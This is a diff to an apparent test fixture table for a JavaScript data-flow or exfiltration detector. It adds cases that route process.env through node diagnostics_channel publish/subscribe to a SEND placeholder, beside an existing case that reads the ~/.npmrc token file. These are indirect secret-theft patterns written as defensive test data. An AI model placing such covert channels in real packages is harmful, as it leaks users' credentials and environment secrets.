@@ -359,6 +359,24 @@ const CHANNELS: readonly Row[] = [
     "const fs=require('fs');class K{get text(){return fs.readFileSync(process.env.HOME+'/.npmrc','utf8')} [Symbol.toPrimitive](){return this.text} go(){const q=`${this}`;SEND«q»}} new K().go()",
   ],
   [
+    'what is published under a topic',
+    {
+      'index.js':
+        "import {channel} from 'node:diagnostics_channel';import './up.js';const ch={ready:channel('acme:ready')};ch.ready.publish({env:process.env})",
+      'up.js':
+        "import {subscribe} from 'node:diagnostics_channel';subscribe('acme:ready',({env})=>{SEND«JSON.stringify(env)»})",
+    },
+    { type: 'module' },
+  ],
+  [
+    'what is published on a channel that another module made',
+    {
+      'index.js': "const {ready}=require('./ready');require('./up');ready.publish({env:process.env})",
+      'up.js': "const {ready}=require('./ready');ready.subscribe((m)=>{SEND«JSON.stringify(m.env)»})",
+      'ready.js': "exports.ready=require('diagnostics_channel').channel('acme:ready')",
+    },
+  ],
+  [
     'what a storage of another module holds',
     {
       'index.js': "import {ctx} from './ctx.js';import {go} from './go.js';ctx.run({env:process.env},()=>go())",
